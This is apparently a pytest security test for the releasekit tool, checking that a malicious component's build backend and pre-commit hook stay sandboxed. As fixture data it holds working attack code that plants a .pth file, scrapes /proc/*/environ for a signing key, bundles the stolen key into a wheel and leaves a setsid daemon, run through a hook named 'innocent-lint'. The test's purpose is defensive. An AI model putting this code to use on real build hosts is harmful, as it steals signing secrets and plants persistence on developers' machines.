"""Issue 43: a pull request's code cannot reach the host (component code runs only in a sandbox).

Built as the attacker of the issue built it: a component whose in-tree PEP 517 backend (run by
``releasekit build``) and whose pre-commit ``repo: local`` hook (run by ``releasekit hygiene``)
each write into the host's ``/tmp``, drops a ``.pth`` file into the
site-packages of the Python that runs releasekit (found through ``/proc/<parent>/maps``), reads every
``/proc/*/environ`` for a signing key (a stand-in for a ``releasekit sign`` running beside it holds
one) (the backend ships what it found in the wheel), and leave a ``setsid`` daemon. Afterwards the host has
none of it: no file, no ``.pth``, no process, and the key is nowhere in what the build wrote.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import uuid
import zipfile
from pathlib import Path

import pytest
from cli_run import invoke
from forge import Forge
from plan_world import written_and_locked
from sandbox_support import WHEEL_WRITER

pytestmark = pytest.mark.docker

TOKEN = uuid.uuid4().hex[:12]
FAKE_KEY = f"-----BEGIN PRIVATE KEY-----rk-sbx-key-{TOKEN}"

# The attack, shared by the backend and the hook: each step fails quietly where it cannot be done.
ATTACK = f'''
import glob, os, subprocess, sys

TOKEN = "{TOKEN}"


def _ancestors_site_packages():
    """The site-packages directories mapped into any ancestor process (releasekit's Python)."""
    found, pid = set(), os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{{pid}}/status") as fh:
                pid = int(next(line for line in fh if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{{pid}}/maps") as fh:
                for line in fh:
                    path = line.split()[-1]
                    if "/site-packages/" in path:
                        found.add(path.split("/site-packages/")[0] + "/site-packages")
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
    return found


def attack(where):
    print(f"rk-sbx: component code ran ({{where}})", flush=True)
    drop = f"/tmp/rk-sbx-{{TOKEN}}"
    os.makedirs(drop, exist_ok=True)
    with open(f"{{drop}}/{{where}}", "w") as fh:
        fh.write("component code ran here\\n")
    for site in _ancestors_site_packages():
        try:
            with open(f"{{site}}/rk_sbx_{{TOKEN}}.pth", "w") as fh:
                fh.write("# planted by a component's code\\n")
        except OSError:
            pass
    stolen = []
    for environ in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(environ, "rb") as fh:
                items = fh.read().split(b"\\0")
        except OSError:
            continue
        stolen += [i.decode() for i in items if i.startswith(b"RELEASEKIT_SIGNING_KEY=")]
    with open(f"{{drop}}/stolen", "a") as fh:
        fh.write("\\n".join(stolen) + "\\n")
    try:
        subprocess.Popen(
            ["setsid", sys.executable, "-c", "import time; time.sleep(120)", f"rk-sbx-daemon-{{TOKEN}}"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
    except OSError:
        pass
    return stolen


if __name__ == "__main__":
    attack(sys.argv[1])
'''

BACKEND = (
    WHEEL_WRITER
    + """
import sys

sys.path.insert(0, ".")
from attack import attack


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    stolen = attack("backend")
    files = {"sbxattack/__init__.py": b"", "sbxattack/stolen.txt": "\\n".join(stolen).encode()}
    return write_wheel(wheel_directory, "sbxattack", files)
"""
)

HOOKS = """\
repos:
  - repo: local
    hooks:
      - id: innocent-lint
        name: an innocent lint
        language: system
        entry: python3 python/attack.py hook
        pass_filenames: false
        always_run: true
"""

PYPROJECT = """\
[build-system]
requires = []
build-backend = "sbx_backend"
backend-path = ["_backend"]

[project]
name = "sbxattack"
version = "1.0"
"""


def _manifest(root: Path, repo: Forge, base_image: str) -> tuple[Path, Path]:
    data = {
        "schema": "releasekit/v1",
        "name": "sbx-attack",
        "components": {
            "sbxattack": {
                "kind": "git",
                "repo": repo.url,
                "canonical_branch": "main",
                "distribution": "sbxattack",
                "build": {
                    "environment": {"kind": "venv"},
                    "subdirectory": "python",
                    "version_policy": {"policy": "static", "reason": "the attack's own fixed version"},
                },
                "hygiene": {"scope": "all", "steps": ["pre-commit"], "tools": {"pre-commit": "4.6.2"}},
            }
        },
        "toolchain": {
            "base_image": {"name": base_image, "digest": "to-be-locked"},
            "cuda_arch_list": ["12.0a"],
        },
    }
    return written_and_locked(root, data)


def _daemons() -> list[int]:
    """Host processes the attack left (its daemons carry the token in their command line)."""
    pids = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if f"rk-sbx-daemon-{TOKEN}".encode() in cmdline.read_bytes():
                pids.append(int(cmdline.parent.name))
        except OSError:
            continue
    return pids


def _planted_pth() -> list[Path]:
    dirs = {Path(p) for p in sys.path if p} | {Path(sys.prefix), Path(sys.base_prefix)}
    found = [d / f"rk_sbx_{TOKEN}.pth" for d in dirs if (d / f"rk_sbx_{TOKEN}.pth").exists()]
    return sorted(set(found))


def _remove_what_it_left() -> None:
    """What the attack leaves when it succeeds (on code without the sandbox): gone again."""
    for pid in _daemons():
        os.kill(pid, signal.SIGKILL)
    for pth in _planted_pth():
        pth.unlink()
    drop = Path(f"/tmp/rk-sbx-{TOKEN}")
    for child in drop.glob("*"):
        child.unlink()
    if drop.exists():
        drop.rmdir()


@pytest.fixture
def attacker(tmp_path: Path) -> Forge:
    forge = Forge(tmp_path / "forge", "sbxattack")
    forge.init(
        {
            "python/attack.py": ATTACK,
            "python/_backend/sbx_backend.py": BACKEND,
            "python/pyproject.toml": PYPROJECT,
            "python/sbxattack/__init__.py": "",
            ".pre-commit-config.yaml": HOOKS,
        }
    )
    return forge


@pytest.fixture
def signer_beside():
    """A process holding a signing key in its environment, as ``releasekit sign`` on the same host would."""
    proc = subprocess.Popen(
        ["sleep", "300"],
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "RELEASEKIT_SIGNING_KEY": FAKE_KEY},
    )
    yield proc
    proc.kill()
    proc.wait()


def _left_on_the_host(out: Path) -> dict[str, list]:
    return {
        "files in the host's /tmp": sorted(p.name for p in Path(f"/tmp/rk-sbx-{TOKEN}").glob("*")),
        ".pth files": [str(p) for p in _planted_pth()],
        "daemons": _daemons(),
        "files holding the key": [
            str(p) for p in out.rglob("*") if p.is_file() and FAKE_KEY.encode() in p.read_bytes()
        ],
        "wheels holding the key": [
            f"{p.name}:{name}"
            for p in out.rglob("*.whl")
            for name in zipfile.ZipFile(p).namelist()
            if FAKE_KEY.encode() in zipfile.ZipFile(p).read(name)
        ],
    }


NOTHING: dict[str, list] = {
    "files in the host's /tmp": [],
    ".pth files": [],
    "daemons": [],
    "files holding the key": [],
    "wheels holding the key": [],
}


def test_a_build_backend_and_a_hook_leave_nothing_on_the_host(tmp_path, attacker, signer_beside, base_image):
    manifest, lock = _manifest(tmp_path, attacker, base_image.name)
    out = tmp_path / "out"
    env = {"RELEASEKIT_CACHE": str(tmp_path / "cache")}
    try:
        built = invoke(
            "build", str(manifest), "--lock", str(lock), "-o", str(out), "--allow-local-repos", env=env
        )
        assert built.returncode == 0, built.stdout + built.stderr
        assert _left_on_the_host(out) == NOTHING
        log = (out / "logs" / "sbxattack.log").read_text()
        assert "sandbox" in log and "rk-sbx: component code ran (backend)" in log
        hygiene = invoke(
            "hygiene", str(manifest), "--lock", str(lock), "-o", str(out), "--allow-local-repos", env=env
        )
        assert hygiene.returncode == 0, hygiene.stdout + hygiene.stderr
        assert "hygiene: PASSED" in hygiene.stdout
        assert _left_on_the_host(out) == NOTHING
    finally:
        _remove_what_it_left()
